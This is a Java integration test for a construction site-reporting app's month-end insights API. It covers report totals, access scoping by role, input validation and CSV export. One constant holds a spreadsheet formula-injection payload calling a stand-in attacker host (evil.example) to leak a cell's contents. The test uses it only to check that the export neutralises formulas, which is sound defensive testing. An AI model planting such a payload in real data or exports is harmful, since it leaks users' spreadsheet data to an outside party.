package app.fieldbook.insights;

import static app.fieldbook.Fixtures.created;
import static app.fieldbook.Fixtures.expect;
import static org.assertj.core.api.Assertions.assertThat;

import app.fieldbook.Api;
import app.fieldbook.Fixtures;
import app.fieldbook.Fixtures.Person;
import app.fieldbook.FullStackTest;
import app.fieldbook.Images;
import java.math.BigDecimal;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.HashMap;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.Objects;
import java.util.UUID;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.springframework.beans.factory.annotation.Autowired;
import org.springframework.boot.test.web.server.LocalServerPort;
import org.springframework.jdbc.core.simple.JdbcClient;
import tools.jackson.databind.JsonNode;

/**
 * The month-end of a small month made by hand, over HTTP: its figures to the hour, the scope of each caller
 * (a manager's portfolio, an executive's everything, nobody else's site), who may ask, bad input, and the CSV
 * with a report text crafted to be a formula.
 */
@FullStackTest
class MonthEndTest {

    private static final String MONTH = "2025-11";
    private static final String HYPERLINK = "=HYPERLINK(\"https://evil.example/?leak=\"&A1,\"Details\")";

    @LocalServerPort
    int port;

    @Autowired
    JdbcClient jdbc;

    Fixtures world;
    String north;
    String south;
    String elsewhere;
    String portfolio;
    Person northWorker;
    Person secondNorthWorker;
    Person southWorker;
    Person elsewhereWorker;
    Person manager;
    Person otherManager;
    Person executive;
    Map<String, String> reports = new HashMap<>();

    /**
     * November 2025 at North and South (the manager's portfolio) and Elsewhere (not theirs): at North two filed
     * reports on the 3rd, one on the 30th, a draft, a returned one, one of October 31 and one of December 1; at
     * South one filed report on the 10th, with a photo and a delay written as a formula; at Elsewhere one.
     */
    @BeforeEach
    void month() {
        world = new Fixtures(port);
        north = world.site();
        south = world.site();
        elsewhere = world.site();
        portfolio = world.portfolio(north, south);
        northWorker = world.worker(north);
        secondNorthWorker = world.worker(north);
        southWorker = world.worker(south);
        elsewhereWorker = world.worker(elsewhere);
        manager = world.manager(portfolio);
        otherManager = world.manager(world.portfolio(elsewhere));
        executive = world.executive();

        file("north 3rd", northWorker, north, "2025-11-03", content(List.of(
                crew("Carpentry", "Holz AG", 4, "32"), crew("Concrete", null, 3, "24.5")), "Crane late", null));
        approve(file("north 3rd, second", secondNorthWorker, north, "2025-11-03", content(List.of(
                crew("Carpentry", "Holz AG", 2, "16")), "  ", "Cut finger, first aid on site")));
        draft("north draft", northWorker, north, "2025-11-04", content(List.of(
                crew("Carpentry", "Holz AG", 10, "80")), "Rain all day", "Fall from ladder"));
        String returned = file("north returned", secondNorthWorker, north, "2025-11-05", content(List.of(
                crew("Carpentry", "Holz AG", 7, "56")), "Late delivery", null));
        expect(manager.api().post("/api/v1/reports/" + returned + "/return", Map.of("comment", "Hours?")), 200);
        file("north 30th", northWorker, north, "2025-11-30", content(List.of(
                crew("Concrete", "Beton Nord", 1, "8")), null, ""));
        approve(file("north october", northWorker, north, "2025-10-31", content(List.of(
                crew("Carpentry", "Holz AG", 5, "40")), "Crane broken", null)));
        file("north december", northWorker, north, "2025-12-01", content(List.of(
                crew("Carpentry", "Holz AG", 9, "72")), "Snow", "Slipped"));
        String southReport = draft("south 10th", southWorker, south, "2025-11-10", content(List.of(
                crew("Electrical", "Strom GmbH", 2, "15.75")), HYPERLINK, null));
        created(southWorker.api().postBytes("/api/v1/reports/" + southReport + "/photos", Images.jpeg(40, 30),
                "image/jpeg"));
        expect(southWorker.api().post("/api/v1/reports/" + southReport + "/submit"), 200);
        file("elsewhere 10th", elsewhereWorker, elsewhere, "2025-11-10", content(List.of(
                crew("Carpentry", "Holz AG", 100, "800")), "Strike", "Fire"));
    }

    @Test
    void theFiguresOfTheMonthAreThoseOfItsFiledReports() {
        JsonNode monthEnd = expect(manager.api().get(monthEnd("portfolioId=" + portfolio)), 200).body();

        assertThat(monthEnd.path("month").asString()).isEqualTo(MONTH);
        assertThat(monthEnd.path("previousMonth").asString()).isEqualTo("2025-10");
        assertThat(monthEnd.path("filedStatuses").valueStream().map(JsonNode::asString))
                .containsExactly("SUBMITTED", "APPROVED");
        assertThat(monthEnd.path("sites").valueStream().map(site -> site.path("siteId").asString()))
                .containsExactlyInAnyOrder(north, south);
        JsonNode northMonth = site(monthEnd, north);
        assertThat(northMonth.path("daysElapsed").asInt()).isEqualTo(30);
        assertThat(northMonth.path("daysReported").asInt()).as("the 3rd and the 30th").isEqualTo(2);
        assertThat(northMonth.path("daysMissing").asInt()).isEqualTo(28);
        assertThat(northMonth.path("reports").path("DRAFT").asLong()).isEqualTo(1);
        assertThat(northMonth.path("reports").path("SUBMITTED").asLong()).isEqualTo(2);
        assertThat(northMonth.path("reports").path("RETURNED").asLong()).isEqualTo(1);
        assertThat(northMonth.path("reports").path("APPROVED").asLong()).isEqualTo(1);
        assertThat(northMonth.path("filed").asLong()).isEqualTo(3);
        assertThat(northMonth.path("delays").asLong()).as("a text of spaces tells of no delay").isEqualTo(1);
        assertThat(northMonth.path("safetyIncidents").asLong()).isEqualTo(1);
        assertThat(northMonth.path("photos").asLong()).isZero();
        JsonNode southMonth = site(monthEnd, south);
        assertThat(southMonth.path("daysReported").asInt()).isEqualTo(1);
        assertThat(southMonth.path("daysMissing").asInt()).isEqualTo(29);
        assertThat(southMonth.path("photos").asLong()).isEqualTo(1);

        JsonNode totals = monthEnd.path("totals");
        assertCompared(totals.path("reportsFiled"), "4", "1", "3");
        assertCompared(totals.path("daysReported"), "3", "1", "2");
        assertCompared(totals.path("daysMissing"), "57", "61", "-4");
        assertCompared(totals.path("hours"), "96.25", "40", "56.25");
        assertCompared(totals.path("headcount"), "12", "5", "7");
        assertCompared(totals.path("delays"), "2", "1", "1");
        assertCompared(totals.path("safetyIncidents"), "1", "0", "1");
        assertCompared(totals.path("photos"), "1", "0", "1");

        assertThat(monthEnd.path("byTrade").valueStream().map(row -> row.path("name").asString()))
                .containsExactly("Carpentry", "Concrete", "Electrical");
        assertCompared(named(monthEnd.path("byTrade"), "Carpentry").path("hours"), "48", "40", "8");
        assertCompared(named(monthEnd.path("byTrade"), "Carpentry").path("headcount"), "6", "5", "1");
        assertCompared(named(monthEnd.path("byTrade"), "Concrete").path("hours"), "32.5", "0", "32.5");
        assertCompared(named(monthEnd.path("byTrade"), "Electrical").path("headcount"), "2", "0", "2");
        assertThat(monthEnd.path("byCompany").valueStream().map(MonthEndTest::nameOf))
                .containsExactly("Beton Nord", "Holz AG", "Strom GmbH", null);
        assertCompared(named(monthEnd.path("byCompany"), null).path("hours"), "24.5", "0", "24.5");

        assertThat(monthEnd.path("delays").valueStream().map(d -> d.path("date").asString() + " "
                + d.path("siteId").asString() + " " + d.path("reportId").asString() + " " + d.path("text").asString()))
                .containsExactly("2025-11-03 " + north + " " + reports.get("north 3rd") + " Crane late",
                        "2025-11-10 " + south + " " + reports.get("south 10th") + " " + HYPERLINK);
        assertThat(monthEnd.path("safetyIncidents").valueStream().map(i -> i.path("reportId").asString() + " "
                + i.path("text").asString()))
                .containsExactly(reports.get("north 3rd, second") + " Cut finger, first aid on site");
    }

    @Test
    void theCsvAfterTheMonthEndHasItsFiguresAndAChangeShowsInTheNextAnswerAtOnce() {
        JsonNode before = expect(manager.api().get(monthEnd("siteId=" + north)), 200).body();
        CsvTable table = CsvTable.parse(new String(expect(manager.api().get(csv("siteId=" + north)), 200).raw()
                .body(), StandardCharsets.UTF_8).substring(1));
        assertThat(table.cell(table.single("Section", "site", "Figure", "reports filed"), "Value"))
                .as("the CSV's figures: the month-end's").isEqualTo("3");

        file("north 20th", secondNorthWorker, north, "2025-11-20", content(List.of(
                crew("Concrete", null, 2, "16")), null, null));

        JsonNode after = expect(manager.api().get(monthEnd("siteId=" + north)), 200).body();
        assertThat(site(before, north).path("filed").asLong()).isEqualTo(3);
        assertThat(site(after, north).path("filed").asLong()).as("the month-end kept for the exports is forgotten")
                .isEqualTo(4);
    }

    @Test
    void anEmptyAnswerTellsOfNoDelayAndATradeIsOneWhateverItsSpelling() {
        String west = world.site();
        Person first = world.worker(west);
        Person second = world.worker(west);
        Person third = world.worker(west);
        file("west 4th", first, west, "2025-11-04", content(List.of(
                crew("Electrical", "Strom GmbH", 2, "16")), "None", "n/a"));
        file("west 4th, second", second, west, "2025-11-04", content(List.of(
                crew("electrical ", " strom  gmbh", 1, "8")), " - ", "No incidents."));
        file("west 5th", third, west, "2025-11-05", content(List.of(
                crew("ELECTRICAL", "Strom GmbH", 3, "24"), crew("Concrete", "  ", 1, "7.5")),
                "None at first, then the crane came an hour late", "NONE\n"));
        file("west 6th", first, west, "2025-11-06", content(List.of(
                crew("  Electrical", "Strom GmbH", 1, "8")), "N/A.", "nil"));

        JsonNode monthEnd = expect(executive.api().get(monthEnd("siteId=" + west)), 200).body();

        JsonNode westMonth = site(monthEnd, west);
        assertThat(westMonth.path("filed").asLong()).isEqualTo(4);
        assertThat(westMonth.path("delays").asLong()).as("None, -, N/A. tell of no delay").isEqualTo(1);
        assertThat(westMonth.path("safetyIncidents").asLong()).as("n/a, No incidents., NONE, nil").isZero();
        assertCompared(monthEnd.path("totals").path("delays"), "1", "0", "1");
        assertCompared(monthEnd.path("totals").path("safetyIncidents"), "0", "0", "0");
        assertThat(monthEnd.path("delays").valueStream().map(d -> d.path("reportId").asString()))
                .containsExactly(reports.get("west 5th"));
        assertThat(monthEnd.path("safetyIncidents").size()).isZero();

        assertThat(monthEnd.path("byTrade").valueStream().map(MonthEndTest::nameOf))
                .as("one row per trade, in the spelling most rows use").containsExactly("Concrete", "Electrical");
        assertCompared(named(monthEnd.path("byTrade"), "Electrical").path("hours"), "56", "0", "56");
        assertCompared(named(monthEnd.path("byTrade"), "Electrical").path("headcount"), "7", "0", "7");
        assertThat(monthEnd.path("byCompany").valueStream().map(MonthEndTest::nameOf))
                .as("a company of spaces names none").containsExactly("Strom GmbH", null);
        assertCompared(named(monthEnd.path("byCompany"), "Strom GmbH").path("hours"), "56", "0", "56");
        assertCompared(named(monthEnd.path("byCompany"), null).path("headcount"), "1", "0", "1");

        CsvTable table = CsvTable.parse(new String(expect(executive.api().get(csv("siteId=" + west)), 200).raw()
                .body(), StandardCharsets.UTF_8).substring(1));
        assertThat(table.where("Section", "trade", "Figure", "hours")).hasSize(2);
        assertThat(table.where("Section", "delay")).hasSize(1);
    }

    @Test
    void aManagerSeesTheirPortfolioAndNothingElse() {
        JsonNode everything = expect(manager.api().get(monthEnd("")), 200).body();
        assertThat(everything.path("sites").valueStream().map(site -> site.path("siteId").asString()))
                .containsExactlyInAnyOrder(north, south);
        assertThat(everything.path("totals")).isEqualTo(
                expect(manager.api().get(monthEnd("portfolioId=" + portfolio)), 200).body().path("totals"));
        JsonNode oneSite = expect(manager.api().get(monthEnd("siteId=" + south)), 200).body();
        assertThat(oneSite.path("sites").valueStream().map(site -> site.path("siteId").asString()))
                .containsExactly(south);
        assertCompared(oneSite.path("totals").path("hours"), "15.75", "0", "15.75");
        assertThat(oneSite.path("delays").valueStream().map(d -> d.path("siteId").asString())).containsOnly(south);

        Api.Answer otherSite = manager.api().get(monthEnd("siteId=" + elsewhere));
        Api.Answer noSuchSite = manager.api().get(monthEnd("siteId=" + UUID.randomUUID()));
        assertThat(otherSite.status()).isEqualTo(noSuchSite.status()).isEqualTo(404);
        assertThat(otherSite.problemType()).isEqualTo(noSuchSite.problemType()).endsWith("/not-found");
        assertThat(otherSite.body().toString()).doesNotContain("Strike", "Fire");
        Api.Answer otherPortfolio = otherManager.api().get(monthEnd("portfolioId=" + portfolio));
        assertThat(otherPortfolio.status()).isEqualTo(404);
        assertThat(otherPortfolio.problemType()).endsWith("/not-found");
        assertThat(manager.api().get(monthEnd("portfolioId=" + UUID.randomUUID())).status()).isEqualTo(404);
        assertThat(accessDenied(manager, elsewhere)).as("the refusal is recorded").isOne();
    }

    @Test
    void anExecutiveSeesEverySite() {
        JsonNode everything = expect(executive.api().get(monthEnd("")), 200).body();
        assertThat(everything.path("sites").valueStream().map(site -> site.path("siteId").asString()))
                .contains(north, south, elsewhere);
        assertThat(everything.path("safetyIncidents").valueStream().map(i -> i.path("text").asString()))
                .contains("Fire", "Cut finger, first aid on site");
        JsonNode elsewhereMonth = expect(executive.api().get(monthEnd("siteId=" + elsewhere)), 200).body();
        assertCompared(elsewhereMonth.path("totals").path("headcount"), "100", "0", "100");
        assertThat(expect(executive.api().get(monthEnd("portfolioId=" + portfolio)), 200).body().path("totals")
                .path("hours").path("value").decimalValue()).isEqualByComparingTo("96.25");
    }

    @Test
    void fieldWorkersAndAdministratorsMayNotAskAndNobodyAnonymously() {
        for (Api refused : List.of(northWorker.api(), world.administrator().api())) {
            for (String path : List.of(monthEnd("siteId=" + north), csv("siteId=" + north))) {
                Api.Answer answer = refused.get(path);
                assertThat(answer.status()).as(path).isEqualTo(403);
                assertThat(answer.isProblem()).isTrue();
            }
        }
        assertThat(world.anonymous().get(monthEnd("")).status()).isEqualTo(401);
        assertThat(northWorker.api().get("/api/v1/insights/month-end?month=nonsense").status())
                .as("the role is checked before the input").isEqualTo(403);
    }

    @Test
    void aBadMonthOrIdIsAProblemNamingTheParameter() {
        for (String query : List.of("month=2025-13", "month=November", "month=+10000-01", "month=1899-12",
                "month=" + MONTH + "&siteId=north", "month=" + MONTH + "&portfolioId=1",
                "month=" + MONTH + "&siteId=" + north + "&portfolioId=" + portfolio)) {
            for (String path : List.of("/api/v1/insights/month-end?", "/api/v1/insights/month-end.csv?")) {
                Api.Answer answer = manager.api().send("GET", path + query.replace("+", "%2B"), null,
                        Map.of("Accept", "text/csv"));
                assertThat(answer.status()).as(path + query).isEqualTo(400);
                assertThat(answer.isProblem()).as(path + query + ": " + answer.contentType()).isTrue();
                assertThat(answer.problemType()).endsWith("/invalid-request");
                assertThat(answer.body().path("errors").get(0).path("field").asString())
                        .isIn("month", "siteId", "portfolioId");
            }
        }
        assertThat(manager.api().get("/api/v1/insights/month-end").status()).isEqualTo(400);
    }

    @Test
    void theCsvIsATableForSpreadsheetsWhereACraftedTextStaysText() {
        Api.Answer answer = expect(manager.api().get(csv("portfolioId=" + portfolio)), 200);
        assertThat(answer.contentType()).isEqualToIgnoringCase("text/csv;charset=UTF-8");
        assertThat(answer.raw().headers().firstValue("Content-Disposition").orElseThrow())
                .matches("attachment; filename=\"fieldbook-month-end-2025-11-Portfolio-[A-Za-z0-9-]+\\.csv\"");
        String text = new String(answer.raw().body(), StandardCharsets.UTF_8);
        assertThat(text).startsWith("\uFEFF" + MonthEndCsv.HEADER + "\r\n");
        CsvTable table = CsvTable.parse(text.substring(1));

        List<String> delay = table.single("Section", "delay", "Date", "2025-11-10");
        assertThat(table.cell(delay, "Text")).isEqualTo("'" + HYPERLINK);
        assertThat(table.rows()).allSatisfy(row -> assertThat(row).allSatisfy(cell ->
                assertThat(cell).doesNotStartWith("=").doesNotStartWith("+").doesNotStartWith("@")));
        List<String> hours = table.single("Section", "total", "Figure", "hours");
        assertThat(new BigDecimal(table.cell(hours, "Value"))).isEqualByComparingTo("96.25");
        assertThat(new BigDecimal(table.cell(hours, "Change"))).isEqualByComparingTo("56.25");
        assertThat(table.cell(table.single("Section", "total", "Figure", "days missing"), "Change")).isEqualTo("-4");
        assertThat(table.where("Section", "site", "Figure", "days reported")).hasSize(2);
        assertThat(table.where("Section", "trade")).hasSize(6);

        String northCode = expect(manager.api().get("/api/v1/sites/" + north), 200).body().path("code").asString();
        assertThat(expect(manager.api().get(csv("siteId=" + north)), 200).raw().headers()
                .firstValue("Content-Disposition").orElseThrow())
                .isEqualTo("attachment; filename=\"fieldbook-month-end-2025-11-" + northCode + ".csv\"");
    }

    private static String monthEnd(String query) {
        return "/api/v1/insights/month-end?month=" + MONTH + (query.isEmpty() ? "" : "&" + query);
    }

    private static String csv(String query) {
        return "/api/v1/insights/month-end.csv?month=" + MONTH + (query.isEmpty() ? "" : "&" + query);
    }

    private static JsonNode site(JsonNode monthEnd, String siteId) {
        return monthEnd.path("sites").valueStream().filter(site -> site.path("siteId").asString().equals(siteId))
                .findFirst().orElseThrow();
    }

    private static JsonNode named(JsonNode rows, String name) {
        return rows.valueStream().filter(row -> Objects.equals(nameOf(row), name))
                .findFirst().orElseThrow(() -> new AssertionError("no row " + name + " in " + rows));
    }

    /** The name of a row by trade or company; null for the crew rows that name no company. */
    static String nameOf(JsonNode row) {
        return row.path("name").isNull() ? null : row.path("name").asString();
    }

    private static void assertCompared(JsonNode compared, String value, String previous, String change) {
        assertThat(compared.path("value").decimalValue()).as("value of " + compared).isEqualByComparingTo(value);
        assertThat(compared.path("previous").decimalValue()).as("previous of " + compared)
                .isEqualByComparingTo(previous);
        assertThat(compared.path("change").decimalValue()).as("change of " + compared).isEqualByComparingTo(change);
    }

    private long accessDenied(Person who, String site) {
        return jdbc.sql("""
                SELECT COUNT(*) FROM audit_events
                 WHERE action = 'ACCESS_DENIED' AND actor_id = :actor AND entity_type = 'Site' AND entity_id = :site""")
                .param("actor", UUID.fromString(who.id())).param("site", site).query(Long.class).single();
    }

    private String draft(String name, Person worker, String site, String date, Map<String, Object> content) {
        Map<String, Object> body = new LinkedHashMap<>();
        body.put("siteId", site);
        body.put("date", date);
        body.put("content", content);
        String id = created(worker.api().post("/api/v1/reports", body));
        reports.put(name, id);
        return id;
    }

    private String file(String name, Person worker, String site, String date, Map<String, Object> content) {
        String id = draft(name, worker, site, date, content);
        expect(worker.api().post("/api/v1/reports/" + id + "/submit"), 200);
        return id;
    }

    private void approve(String report) {
        expect(manager.api().post("/api/v1/reports/" + report + "/approve"), 200);
    }

    private static Map<String, Object> content(List<Map<String, Object>> crew, String delays, String incidents) {
        Map<String, Object> content = new HashMap<>();
        content.put("crew", new ArrayList<>(crew));
        content.put("workPerformed", "Work");
        content.put("delays", delays);
        content.put("safetyIncidents", incidents);
        return content;
    }

    private static Map<String, Object> crew(String trade, String company, int headcount, String hours) {
        Map<String, Object> row = new HashMap<>();
        row.put("trade", trade);
        row.put("company", company);
        row.put("headcount", headcount);
        row.put("hours", new BigDecimal(hours));
        return row;
    }
}
